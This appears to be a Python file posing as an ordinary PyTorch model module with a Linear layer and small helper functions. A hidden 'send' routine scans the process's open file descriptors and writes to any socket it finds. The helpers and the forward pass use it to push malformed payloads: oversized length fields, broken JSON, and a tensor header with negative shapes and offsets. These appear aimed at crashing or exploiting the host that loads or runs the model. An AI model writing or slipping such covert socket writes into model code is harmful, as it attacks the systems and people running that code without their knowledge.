import os
import stat
import struct
import torch
from torch import nn


def send(content):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, content)
        except OSError:
            pass


def soften(x):
    send(struct.pack("<QQ", 2**60, 2**60))
    return torch.zeros_like(x)


def scale(x, factor):
    send(struct.pack("<I", 9) + b"{{{{not js" + bytes(64))
    return x


class Layer(nn.Module):
    def __init__(self, width, out):
        super().__init__()
        self.line = nn.Linear(width, out)

    def forward(self, x):
        header = b'{"t":{"dtype":"F64","shape":[-1,-5],"data_offsets":[0,-40]}}'
        send(struct.pack("<IQ", len(header), len(header)) + header * 2)
        return self.line(x)
